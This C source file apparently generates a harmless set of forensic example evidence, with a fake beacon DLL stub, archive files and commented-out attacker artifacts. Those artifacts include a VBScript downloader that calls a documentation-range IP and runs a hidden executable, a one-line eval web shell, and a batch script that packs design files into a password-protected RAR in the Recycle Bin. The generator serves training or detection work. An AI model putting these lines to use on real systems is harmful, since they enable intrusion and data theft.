#include "files.h"

#include <archive.h>
#include <archive_entry.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#define NOTICE "harmless marker of the kanshiki example; runs nothing"
#define WHEN 1488780000		/* 2017-03-06 06:00 UTC */

static void fail(const char *what, const char *why)
{
	fprintf(stderr, "make-example: %s: %s\n", what, why);
	exit(2);
}

static void make_folders(char *path)
{
	for (char *at = path + 1; (at = strchr(at, '/')); at++) {
		*at = 0;
		if (mkdir(path, 0755) && errno != EEXIST)
			fail(path, strerror(errno));
		*at = '/';
	}
}

void put_file(const char *root, const char *path, struct span content)
{
	/* Ten minutes after the last of the story, when the evidence was taken: 2017-03-09T13:50:00Z. */
	static const struct timespec times[] = { { .tv_sec = 1489067400 }, { .tv_sec = 1489067400 } };
	char whole[4096];
	FILE *to;

	snprintf(whole, sizeof whole, "%s/%s", root, path);
	make_folders(whole);
	to = fopen(whole, "wb");
	if (!to)
		fail(whole, strerror(errno));
	if (fwrite(content.at, 1, content.len, to) != content.len || fclose(to) ||
	    utimensat(AT_FDCWD, whole, times, 0))
		fail(whole, strerror(errno));
}

static void zeros(struct buf *to, size_t until)
{
	while (to->len < until)
		buf_add_u8(to, 0);
}

void make_library(struct buf *to)
{
	/* Settings block of a beacon under its default key 0x2e, without any setting. */
	static const char settings[] = "\x2e\x2f\x2e\x2f\x2e\x2c\x2e\x26\x2e\x2c\x2e\x2f\x2e\x2c"
				       "\x3f\x72\x2e\x2d\x2e\x2c\x2e\x2a";

	buf_text(to, "MZ");
	zeros(to, 0x3c);
	buf_add_u32le(to, 0x80);
	buf_text(to, "This program cannot be run in DOS mode. ");
	zeros(to, 0x80);
	buf_add(to, SPAN("PE\0\0\x64\x86\0\0"));
	zeros(to, 0x94);
	buf_add_u16le(to, 0xf0);
	buf_add_u16le(to, 0x2022);
	buf_add_u16le(to, 0x20b);
	zeros(to, 0x400);
	buf_text(to, NOTICE);
	zeros(to, 0x480);
	buf_text(to, "ReflectiveLoader");
	zeros(to, 0x500);
	buf_add(to, span_of(settings, sizeof settings - 1));
	zeros(to, 0x800);
}

struct span startup_script(void)
{
	return SPAN("' " NOTICE "\r\n"
		    "' Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
		    "' h.Open \"GET\", \"http://203.0.113.45/news/b.gif\", False\r\n"
		    "' Set s = CreateObject(\"ADODB.Stream\")\r\n"
		    "' CreateObject(\"WScript.Shell\").Run \"msnetwork.exe\", 0\r\n");
}

struct span web_page(void)
{
	return SPAN("<%-- " NOTICE " --%>\r\n"
		    "<%-- <%@ Page Language=\"Jscript\" %> <% eval(Request.Item[\"z\"], \"unsafe\"); %> --%>\r\n");
}

struct span collection_script(void)
{
	return SPAN("rem " NOTICE "\r\n"
		    "rem for /r D:\\design %%f in (*.dwg *.pdf) do r.exe a -hpx -m5 -v200m C:\\$Recycle.Bin\\d.rar \"%%f\"\r\n"
		    "rem for /f %%i in ('dir D:\\design\\*.dwg /s /b') do rar a C:\\$Recycle.Bin\\d.rar %%i\r\n");
}

void make_archive_head(struct buf *to)
{
	buf_add(to, SPAN("Rar!\x1a\x07\x01\x00\x11\x22\x33\x44\x21\x04\x00\x00\x01"));
	buf_text(to, NOTICE);
	zeros(to, 0x400);
}

static void check(struct archive *a, int code)
{
	if (code < ARCHIVE_WARN)
		fail("archive", archive_error_string(a));
}

static struct archive *new_archive(enum archive_form form)
{
	struct archive *a = archive_write_new();

	if (!a)
		fail("archive", "out of memory");
	if (form == ARCHIVE_TAR_GZ) {
		check(a, archive_write_add_filter_gzip(a));
		check(a, archive_write_set_filter_option(a, "gzip", "timestamp", NULL));
		check(a, archive_write_set_format_pax_restricted(a));
	} else {
		check(a, archive_write_set_format_zip(a));
	}
	return a;
}

static void add_file(struct archive *a, const struct packed_file *file)
{
	struct archive_entry *entry = archive_entry_new();

	if (!entry)
		fail("archive", "out of memory");
	archive_entry_set_pathname_utf8(entry, file->path);
	archive_entry_set_size(entry, (int64_t)file->content.len);
	archive_entry_set_filetype(entry, AE_IFREG);
	archive_entry_set_perm(entry, 0644);
	archive_entry_set_mtime(entry, WHEN, 0);
	check(a, archive_write_header(a, entry));
	if (archive_write_data(a, file->content.at, file->content.len) != (ssize_t)file->content.len)
		fail("archive", archive_error_string(a));
	archive_entry_free(entry);
}

static ssize_t keep(struct archive *a, void *context, const void *bytes, size_t len)
{
	(void)a;
	return buf_add(context, span_of(bytes, len)) ? (ssize_t)len : -1;
}

void make_archive(struct buf *to, enum archive_form form, const struct packed_file *files,
		  size_t count)
{
	struct archive *a = new_archive(form);

	check(a, archive_write_set_bytes_in_last_block(a, 1));
	check(a, archive_write_open(a, to, NULL, keep, NULL));
	for (size_t i = 0; i < count; i++)
		add_file(a, &files[i]);
	check(a, archive_write_close(a));
	archive_write_free(a);
}

#define LOCKED_SIZE 2048

/* What local and central header of a zip member have in common (APPNOTE 4.3.7). */
static void zip_member(struct buf *to, const char *name)
{
	buf_add_u16le(to, 20);
	buf_add_u16le(to, 1 | 1 << 11);		/* encrypted; UTF-8 name */
	buf_add_u16le(to, 0);
	buf_add_u32le(to, 0x4a660000);		/* 2017-03-06 */
	buf_add_u32le(to, 0x12345678);
	buf_add_u32le(to, LOCKED_SIZE + 12);
	buf_add_u32le(to, LOCKED_SIZE);
	buf_add_u16le(to, (uint16_t)strlen(name));
	buf_add_u16le(to, 0);
}

void make_locked_zip(struct buf *to, const char *name)
{
	uint32_t noise = 1, central;

	buf_text(to, "PK\3\4");
	zip_member(to, name);
	buf_text(to, name);
	for (int i = 0; i < LOCKED_SIZE + 12; i++) {
		noise = noise * 1664525 + 1013904223;
		buf_add_u8(to, (uint8_t)(noise >> 24));
	}
	central = (uint32_t)to->len;
	buf_text(to, "PK\1\2");
	buf_add_u16le(to, 20);
	zip_member(to, name);
	zeros(to, to->len + 14);
	buf_text(to, name);
	buf_add(to, SPAN("PK\5\6\0\0\0\0\1\0\1\0"));
	buf_add_u32le(to, (uint32_t)to->len - 12 - central);
	buf_add_u32le(to, central);
	buf_add_u16le(to, 0);
}
